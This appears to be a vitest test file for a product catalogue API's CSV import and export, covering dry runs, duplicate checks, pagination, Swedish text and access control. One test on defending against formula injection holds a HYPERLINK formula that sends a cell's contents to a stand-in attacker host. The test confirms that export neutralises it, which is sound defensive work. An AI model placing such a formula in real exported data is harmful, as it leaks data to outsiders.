import { gtinCheckDigit, type ImportReport, type Product, productSchema } from "@glide/contracts";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { freshDatabase, signIn } from "../../test/harness.ts";
import { ADMIN_COOKIE } from "../admin-auth/admin-auth.hooks.ts";
import { exportProductsCsv } from "./products.csv.ts";
import { cellText, csvCell, MISSING_SKU } from "./products.csv-format.ts";
import { admin, create, csvPost, ctx, ean, percentToday, useProductsApp } from "./products.fixtures.ts";

/** CSV import and export, then the dashboard's count of the products made here. */
useProductsApp();

describe("CSV import and export", () => {
  const header = "sku,name,category,brand,price,vat_rate,barcode,age_limit";

  it("reports per row in a dry run and writes nothing", async () => {
    const existing = await create({ sku: "CSV-EXIST", name: "Gammal" });
    const csv = [
      header,
      `CSV-NEW-1,"Snus ""Original"", portion",Tobak,General,55.5,25,${ean("731500000001")},18`,
      "CSV-EXIST,Ny titel,,,10,12,,",
      "CSV-BAD-1,,,,abc,25,,",
      `CSV-BAD-2,Dubbelkod,,,5,25,${ean("731500000001")},`,
      "CSV-NEW-1,Samma sku igen,,,5,25,,",
    ].join("\n");
    const res = await csvPost(csv);
    expect(res.statusCode, res.body).toBe(200);
    const report: ImportReport = res.json();
    expect(report).toMatchObject({ dry_run: true, created: 1, updated: 1, rejected: 3 });
    expect(report.rows.map((r) => [r.line, r.action])).toEqual([
      [2, "create"],
      [3, "update"],
      [4, "reject"],
      [5, "reject"],
      [6, "reject"],
    ]);
    expect(report.rows[2]!.errors.join(" ")).toContain("price");
    expect(report.rows[3]!.errors).toEqual([`barcode: ${ean("731500000001")} is also on line 2`]);
    expect(report.rows[4]!.errors).toEqual(["sku: CSV-NEW-1 is also on line 2"]);
    expect((await admin.get("/api/v1/products/?search=CSV-NEW")).json()).toEqual([]);
    expect((await admin.get(`/api/v1/products/${existing.id}`)).json().name).toBe("Gammal");

    const refused = await csvPost(csv, "?dry_run=false");
    expect(refused.statusCode).toBe(422);
    expect(refused.json().detail).toContain("Nothing was imported: 3 rows are rejected (first: line 4)");
    expect((await admin.get("/api/v1/products/?search=CSV-NEW")).json()).toEqual([]);

    const applied = await csvPost(csv, "?dry_run=false&skip_rejected=true");
    expect(applied.json()).toMatchObject({ dry_run: false, created: 1, updated: 1, rejected: 3 });
    const [snus] = (await admin.get("/api/v1/products/?search=CSV-NEW-1")).json() as Product[];
    expect(snus).toMatchObject({
      name: 'Snus "Original", portion',
      age_limit: 18,
      price: 55.5,
      barcode: ean("731500000001"),
    });
    // 12 % from a file of before categories: food, at its rate of today.
    expect((await admin.get(`/api/v1/products/${existing.id}`)).json()).toMatchObject({
      name: "Ny titel",
      vat_category: "food",
      vat_rate: percentToday("food"),
    });
  });

  it("exports every matching product once across pages of a thousand", async () => {
    const rows = Array.from({ length: 2001 }, (_, i) => `SIDA-${String(i).padStart(4, "0")},Sidvara ${i},,,1,25,,`);
    const imported = await csvPost([header, ...rows].join("\n"), "?dry_run=false");
    expect(imported.json()).toMatchObject({ created: 2001, rejected: 0 });
    const exported = await admin.get("/api/v1/products/export?search=SIDA-");
    expect(exported.statusCode).toBe(200);
    const skus = (parse(exported.body, { bom: true, columns: true }) as Array<{ sku: string }>).map((r) => r.sku);
    expect(skus).toHaveLength(2001);
    expect(new Set(skus).size).toBe(2001);
    // Exactly one full page: the empty page after it ends the file.
    const one = await admin.get("/api/v1/products/export?search=SIDA-1");
    expect(parse(one.body, { bom: true, columns: true })).toHaveLength(1000);
  });

  it("reads the first page before sending anything, so a database that is away is an error, not a cut file", async () => {
    const { database, drop } = await freshDatabase();
    await database.close();
    await expect(exportProductsCsv({ db: database.db })).rejects.toThrow();
    await drop();
  });

  it("round-trips quotes, commas and Swedish letters through export and import", async () => {
    const tricky = await create({
      sku: "RUND-1",
      name: 'Räksmörgås "Deluxe", stor; åäö ÅÄÖ',
      description: "Rad ett\nRad två",
      category: "Färdigmat",
      brand: "Göteborgs Kex",
      price: 89.9,
      vat_category: "books_newspapers",
      barcodes: [ean("731600000001"), ean("731600000002")],
    });
    const exported = await admin.get("/api/v1/products/export?search=RUND-1");
    expect(exported.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(exported.headers["content-disposition"]).toContain("products.csv");
    expect(exported.body.startsWith("\uFEFFsku,name,description,category,brand,price,vat_category,vat_rate,")).toBe(
      true,
    );
    expect(exported.body.trim().split("\n").length).toBeGreaterThan(1);

    await admin.put(`/api/v1/products/${tricky.id}`, {
      name: "Förstörd",
      vat_category: "standard",
      barcodes: [ean("731600000003")],
    });
    const back = await csvPost(exported.body, "?dry_run=false");
    expect(back.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
    const restored = productSchema.parse((await admin.get(`/api/v1/products/${tricky.id}`)).json());
    expect(restored).toMatchObject({
      name: tricky.name,
      description: tricky.description,
      brand: tricky.brand,
      price: 89.9,
      vat_category: "books_newspapers",
      vat_rate: 6,
      barcodes: tricky.barcodes,
    });
  });

  it("re-imports an unchanged export of a product with barcodes as an update", async () => {
    // An EAN-13, an EAN-8 and a weight label's item code: each is written back as the export shows it.
    const ean8 = `7310001${gtinCheckDigit("7310001")}`;
    const barcodes = [ean("731600000011"), ean8, ean("230888800000")];
    const p = await create({ sku: "OFORAND-1", name: "Oförändrad", barcodes });
    const exported = await admin.get("/api/v1/products/export?search=OFORAND-1");
    const dry = await csvPost(exported.body);
    expect(dry.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
    expect(dry.json().rows[0].errors).toEqual([]);
    const applied = await csvPost(exported.body, "?dry_run=false");
    expect(applied.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
    expect((await admin.get(`/api/v1/products/${p.id}`)).json().barcodes).toEqual(p.barcodes);
  });

  it("writes text that a spreadsheet would run as a formula with a leading quote, and reads it back", async () => {
    const risky = {
      sku: "-INJ-1",
      name: '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
      description: "-5 % rea",
      category: "@risk",
      brand: "+46 Kaffe",
    };
    const p = await create(risky);
    const quoted = await create({ sku: "INJ-2", name: "'=already quoted", brand: "'plain" });
    const exported = await admin.get("/api/v1/products/export?search=INJ-");
    const rows: Record<string, string>[] = parse(exported.body, { bom: true, columns: true });
    const row = rows.find((r) => r.name?.includes("HYPERLINK"))!;
    expect(row).toMatchObject({
      sku: "'-INJ-1",
      name: `'${risky.name}`,
      description: "'-5 % rea",
      category: "'@risk",
      brand: "'+46 Kaffe",
      price: "10",
    });
    expect(rows.find((r) => r.sku === "INJ-2")).toMatchObject({ name: "''=already quoted", brand: "'plain" });

    await admin.put(`/api/v1/products/${p.id}`, { name: "Ändrad", description: null, brand: null });
    const back = await csvPost(exported.body, "?dry_run=false");
    expect(back.json()).toMatchObject({ created: 0, updated: 2, rejected: 0 });
    expect((await admin.get(`/api/v1/products/${p.id}`)).json()).toMatchObject(risky);
    expect((await admin.get(`/api/v1/products/${quoted.id}`)).json()).toMatchObject({
      name: "'=already quoted",
      brand: "'plain",
    });
  });

  it("quotes only text cells: numbers, negative ones too, stay numbers", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(-0.25)).toBe("-0.25");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(null)).toBe("");
    expect(csvCell("-5")).toBe("'-5");
    for (const text of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-1", "'x", "x=1", "", "plain"]) {
      expect(cellText(csvCell(text))).toBe(text);
    }
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("x=1")).toBe("x=1");
  });

  it("rejects a row whose barcode another product has, naming that product", async () => {
    const owner = await create({ sku: "AGARE-1", name: "Ägaren", barcode: ean("731600000021") });
    const report: ImportReport = (
      await csvPost(`sku,name,price,barcode\nINTRANG-1,Inkräktare,5,${owner.barcode}`)
    ).json();
    expect(report.rows[0]!.errors).toEqual([
      `barcode: ${owner.barcode} already belongs to "Ägaren" (SKU AGARE-1); take it off this row or off that product`,
    ]);
  });

  it("says once, with the fix, that a row has no SKU", async () => {
    const report: ImportReport = (await csvPost("sku,name,price\n,Vara,10\n  ,Vara,abc")).json();
    expect(report.rows[0]!.errors).toEqual([MISSING_SKU]);
    expect(report.rows[1]!.errors).toEqual([MISSING_SKU, "price: Price must be a number"]);
    expect(MISSING_SKU).toMatch(/^sku: .*Give the row a SKU/);
  });

  it("reads semicolon files with decimal commas, as Swedish spreadsheets write them", async () => {
    const res = await csvPost("sku;name;price;vat_rate\nSEMI-1;Kanelbulle;12,50;12", "?dry_run=false");
    expect(res.json()).toMatchObject({ created: 1, rejected: 0 });
    expect((await admin.get("/api/v1/products/?search=SEMI-1")).json()[0]).toMatchObject({
      price: 12.5,
      vat_category: "food",
    });
  });

  it("refuses a file with unknown or missing columns, or no rows", async () => {
    const unknown = await csvPost("sku,name,price,colour\nX,Y,1,red");
    expect(unknown.statusCode).toBe(422);
    expect(unknown.json().detail).toContain("unknown column colour");
    expect((await csvPost("sku,name\nX,Y")).json().detail).toContain("price column");
    expect((await csvPost("sku,name,price\n")).json().detail).toContain("no rows");
    expect((await csvPost('sku,name,price\n"X,Y,1')).statusCode).toBe(422);
  });

  it("lets only platform admins import", async () => {
    const storeAdmin = (await signIn(ctx.app, "store_admin")).cookie;
    const res = await ctx.app.inject({
      method: "POST",
      url: "/api/v1/products/import",
      payload: "sku,name,price\nX,Y,1",
      headers: { "content-type": "text/csv" },
      cookies: { [ADMIN_COOKIE]: storeAdmin },
    });
    expect(res.statusCode).toBe(403);
  });
});

describe("dashboard", () => {
  it("counts the real products", async () => {
    const total = Number((await admin.get("/api/v1/products/?limit=1")).headers["x-total-count"]);
    expect(total).toBeGreaterThan(10);
    expect((await admin.get("/api/v1/admin/dashboard")).json().total_products).toBe(total);
  });
});
